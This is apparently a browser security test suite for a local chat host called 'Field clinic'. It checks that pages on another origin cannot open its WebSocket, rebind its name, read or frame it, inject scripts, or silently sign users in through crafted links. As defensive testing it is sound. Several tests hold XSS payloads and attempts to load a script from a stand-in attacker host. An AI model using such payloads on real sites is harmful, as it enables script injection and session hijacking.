// What a web site that somebody visits may try with their browser, from real Chromium and another origin: to open the host's
// WebSocket, to ask it under a name of its own (DNS rebinding), to read, frame or script it, and to sign somebody in as
// another person. Each attack is tried beside something that shows that it would be noticed if it went through.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer } from 'node:http';
import { after, before, beforeEach, describe, test } from 'node:test';

import { DEADLINE, launchBrowser, until, watch } from './browser.mjs';
import { startHost } from './harness.mjs';
import { Peer } from './peers/peer.mjs';

const EVIL = 'evil.test'; // for this browser, this computer

let browser;
let host;
let evil; // another web server, whose every page is `evil.page`

before(async () => {
  host = await startHost({ name: 'Field clinic' });
  evil = createServer((request, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end(`<!doctype html><title>evil</title>${evil.page ?? ''}`);
  });
  await once(evil.listen(0, '127.0.0.1'), 'listening');
  evil.port = evil.address().port;
  evil.url = `http://${EVIL}:${evil.port}/`;
  browser = await launchBrowser([
    // Newer browsers keep other sites away from local networks by themselves: here the host has to.
    '--disable-features=BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights,LocalNetworkAccessChecks',
    `--host-resolver-rules=MAP ${EVIL} 127.0.0.1`,
  ]);
});
after(async () => {
  await browser?.close();
  evil?.close();
  await host?.stop();
});
beforeEach(() => (evil.page = ''));

/** A page of a fresh browser at this address. */
async function open(url) {
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  context.setDefaultTimeout(DEADLINE);
  const page = await context.newPage();
  watch(page);
  await page.goto(url);
  return page;
}
const close = (page) => page.context().close();

/** 'open' or 'refused'. */
const webSocket = (frame, url) => frame.evaluate((address) => new Promise((resolve) => {
  const socket = new WebSocket(address, 'courtyard.v1');
  socket.onopen = () => resolve('open');
  socket.onerror = () => resolve('refused');
}), url);

/** What a script gets: its text, or 'nothing'. */
const read = (frame, url, options = {}) => frame.evaluate(([address, how]) => fetch(address, how)
  .then(async (response) => (await response.text()) || `${response.type}, and nothing in it`)
  .catch(() => 'nothing'), [url, options]);

describe('a WebSocket', () => {
  const own = () => `ws://127.0.0.1:${host.port}/ws`;

  test('is open to the page itself', async () => {
    const page = await open(host.url);
    assert.equal(await webSocket(page, own()), 'open');
    await close(page);
  });

  for (const [name, from] of [
    ['another site', () => evil.url],
    ['another port of this computer', () => `http://127.0.0.1:${evil.port}/`],
    ['another name of this computer', () => `http://localhost:${host.port}/`],
  ]) {
    test(`is refused to ${name}`, async () => {
      const page = await open(from());
      assert.equal(await webSocket(page, own()), 'refused');
      await close(page);
    });
  }

  test('is refused to a page without an origin', async () => {
    evil.page = '<iframe sandbox="allow-scripts" srcdoc="<p>nobody"></iframe>';
    const page = await open(evil.url);
    const frame = await until('the frame is there', () => page.frames()[1]);
    assert.equal(await frame.evaluate(() => self.origin), 'null');
    assert.equal(await webSocket(frame, own()), 'refused');
    await close(page);
  });

  test('encrypted is refused as well', async () => {
    const page = await open(evil.url);
    assert.equal(await webSocket(page, `wss://127.0.0.1:${host.port}/ws`), 'refused');
    await close(page);
    const ours = await open(`https://127.0.0.1:${host.port}/`);
    assert.equal(await webSocket(ours, `wss://127.0.0.1:${host.port}/ws`), 'open');
    await close(ours);
  });
});

describe('a name that was made to lead here', () => {
  test('is not answered: neither pages, nor what scripts ask, nor a WebSocket', async () => {
    const rebound = `http://${EVIL}:${host.port}`;
    const context = await browser.newContext();
    const page = await context.newPage();
    // The attacker's page came from the attacker's address; after that the name leads to the host.
    await page.route(`${rebound}/start`, (route) => route.fulfill({ contentType: 'text/html', body: '<p>wait' }));
    await page.goto(`${rebound}/start`);
    for (const path of ['/', '/about.json', '/metrics', '/healthz']) {
      const status = await page.evaluate((asked) => fetch(asked).then((response) => response.status), path);
      assert.equal(status, 421, path);
    }
    assert.equal(await webSocket(page, `ws://${EVIL}:${host.port}/ws`), 'refused');
    const answer = await page.goto(`${rebound}/`);
    assert.equal(answer.status(), 421);
    await context.close();
  });
});

describe('another site', () => {
  test('reads nothing', async () => {
    const page = await open(evil.url);
    for (const path of ['', 'about.json', 'metrics', 'healthz']) {
      assert.equal(await read(page, host.url + path), 'nothing', path);
      assert.equal(await read(page, host.url + path, { mode: 'no-cors' }), 'nothing', path); // not even unseen
    }
    assert.match(await read(page, evil.url), /evil/);
    await close(page);
  });

  test('loads nothing of it as a script, a style or a picture', async () => {
    const page = await open(evil.url);
    const loads = (tag, attribute, url) => page.evaluate(([kind, where, address]) => new Promise((resolve) => {
      const element = document.createElement(kind);
      element.onload = () => resolve(true);
      element.onerror = () => resolve(false);
      if (kind === 'link') element.rel = 'stylesheet';
      element[where] = address;
      document.head.append(element);
    }), [tag, attribute, url]);
    const html = await (await fetch(host.url)).text();
    const script = /<script[^>]*src="([^"]+)"/.exec(html)[1];
    const style = /<link[^>]*rel="stylesheet"[^>]*href="([^"]+)"|<link[^>]*href="([^"]+\.css[^"]*)"/.exec(html);
    assert.equal(await loads('script', 'src', new URL(script, host.url).href), false);
    assert.equal(await loads('script', 'src', `${host.url}about.json`), false);
    assert.equal(await loads('link', 'href', new URL(style[1] ?? style[2], host.url).href), false);
    assert.equal(await loads('img', 'src', `${host.url}favicon.svg`), false);
    await close(page);
  });

  test('frames nothing', async () => {
    evil.page = `<iframe src="${host.url}"></iframe><iframe src="${host.url}about.json"></iframe>`;
    const page = await open(evil.url);
    for (const frame of page.frames().slice(1)) {
      await until('the browser has refused the frame', () => frame.evaluate(() => location.href.startsWith('chrome-error:')));
      assert.doesNotMatch(await frame.content(), /Field clinic/);
    }
    await close(page);
  });

  test('posts nothing by a form', async () => {
    evil.page = `<form method="post" action="${host.url}"><button>Win</button></form>`;
    const page = await open(evil.url);
    const answered = page.waitForResponse((response) => response.url() === host.url);
    await page.getByRole('button').click();
    assert.equal((await answered).status(), 405);
    await close(page);
  });
});

describe('in the page', () => {
  test('no script runs but its own', async () => {
    const page = await open(host.url);
    const asked = await page.evaluate((elsewhere) => {
      const breaches = (window.breaches = []);
      document.addEventListener('securitypolicyviolation', (event) => breaches.push(event.effectiveDirective));
      const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
      add('script', { textContent: 'window.injected = 1' });
      add('div', { innerHTML: '<img src="data:," onerror="window.injected = 1"><a href="javascript:window.injected = 1">x</a>' });
      document.querySelector('a[href^=javascript]').click();
      add('script', { src: elsewhere });
      add('iframe', { srcdoc: '<script>parent.injected = 1</script>' });
      add('base', { href: elsewhere });
      setTimeout('window.injected = 1'); // as eval() would
      return fetch(elsewhere).then(() => 'answered', () => 'refused');
    }, `${evil.url}x.js`);
    assert.equal(asked, 'refused');
    for (const directive of ['script-src', 'script-src-elem', 'script-src-attr', 'connect-src', 'base-uri'])
      await until(`the browser says that it kept ${directive}`, () => page.evaluate((wanted) => window.breaches.includes(wanted), directive));
    await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 200))); // for what would run late
    assert.equal(await page.evaluate(() => window.injected ?? 0), 0);
    await close(page);
  });

  test('what people write and are called is text', async () => {
    const amina = await Peer.join(host, '<b onclick=x>Amina');
    const page = await open(host.url);
    await page.getByLabel('Your name').fill('Badr');
    await page.getByRole('button', { name: 'Join', exact: true }).click();
    const words = '<img src=x onerror="window.injected=1"><script>window.injected=1</script> javascript:window.injected=1';
    await amina.post('lobby', words);
    await page.getByRole('log').getByText('<img src=x').waitFor();
    assert.equal(await page.evaluate(() => window.injected ?? 0), 0);
    assert.equal(await page.locator('[role=log] img, [role=log] script, [role=log] b').count(), 0);
    assert.equal(await page.locator('a[href^="javascript:"]').count(), 0);
    await amina.close();
    await close(page);
  });
});

describe('a link made by somebody else', () => {
  /** Nobody is signed in by opening the link; the person may still refuse, and come in as themselves. */
  async function mustAsk(fragment, mallory) {
    const page = await open(host.url + fragment);
    await page.getByText('Go on only where you made it yourself').waitFor();
    const stored = await page.evaluate(() => JSON.stringify(localStorage));
    assert.ok(!stored.includes(mallory.token), 'nothing is kept before one has agreed');
    assert.equal(new URL(page.url()).hash, '', 'secrets stay in no history');
    await page.getByRole('button', { name: 'Come in as somebody new' }).click();
    await page.getByLabel('Your name').fill(`Victim ${fragment.length}`);
    await page.getByRole('button', { name: 'Join', exact: true }).click();
    await page.getByLabel('Message', { exact: true }).waitFor();
    const { people } = await mallory.ask({ type: 'people', room: 'lobby' });
    assert.ok(people.some((person) => person.name === `Victim ${fragment.length}`));
    await close(page);
  }

  test('with a code that links another device signs nobody in silently', async () => {
    const mallory = await Peer.join(host, 'Mallory');
    const { link } = await mallory.ask({ type: 'link' });
    await mustAsk(`#link=${link}`, mallory);
    await mallory.close();
  });

  test('with a token signs nobody in silently', async () => {
    const mallory = await Peer.join(host, 'Mallory the second');
    const carried = {
      host: mallory.welcome.host.id, hostName: 'Field clinic', token: mallory.token, name: 'Mallory the second', room: 'lobby', from: 'http://192.168.1.9:3000', entries: [],
    };
    await mustAsk(`#carry=${Buffer.from(JSON.stringify(carried)).toString('base64url')}`, mallory);
    await mallory.close();
  });
});
